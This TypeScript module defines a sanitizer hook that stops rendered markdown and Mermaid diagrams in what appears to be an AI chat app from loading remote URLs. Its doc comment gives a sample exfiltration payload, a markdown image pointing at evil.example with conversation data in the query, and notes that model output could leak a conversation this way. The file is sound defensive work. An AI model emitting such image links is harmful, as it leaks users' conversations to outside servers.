// The rule that rendering never contacts another server, as one sanitizer step shared by
// renderMarkdown and the Mermaid diagrams. See docs/ARCHITECTURE.md, "Rendering".

import { i18n } from '../i18n/i18n';

/** Attributes through which an element other than a link loads a URL by itself. */
const LOAD_ATTRS = ['src', 'poster', 'background', 'href', 'xlink:href', 'data'];

/** A URL that leaves the app: http(s), or protocol-relative ("//host/x"). */
const REMOTE = /^\s*(https?:|\/\/)/i;

/**
 * Removes every remote URL an element would load on its own (an image's or a video's src,
 * a poster, a legacy background, an SVG image's href): model output and page text could
 * otherwise send what the conversation holds to any server with no click (an answer
 * ending in `![x](https://evil.example/?d=…)`). The URL is kept in data-blocked-src and,
 * for images, shown in the title; nothing is fetched. With `keepImages` (renderMarkdown's
 * `images`: the user's "Load images" click, or Settings' "always"), an `<img>` keeps an
 * http(s) src (never a protocol-relative one); media, posters, backgrounds and SVG images
 * stay blocked. Meant for a DOMPurify afterSanitizeAttributes hook.
 */
export function blockRemoteLoads(node: Element, keepImages: boolean): void {
  for (const attr of LOAD_ATTRS) {
    const v = node.getAttribute(attr);
    if (v === null || !REMOTE.test(v)) continue;
    if (keepImages && node.nodeName === 'IMG' && attr === 'src' && /^\s*https?:\/\//i.test(v)) continue;
    node.removeAttribute(attr);
    node.setAttribute('data-blocked-src', v);
    if (node.nodeName === 'IMG') {
      const alt = node.getAttribute('alt') ?? '';
      node.setAttribute('alt', alt !== '' ? i18n.t('tools:markdown.imageBlockedAlt', { alt }) : i18n.t('tools:markdown.imageBlocked'));
      node.setAttribute('title', i18n.t('tools:markdown.imageBlockedTitle', { url: v }));
    }
  }
}
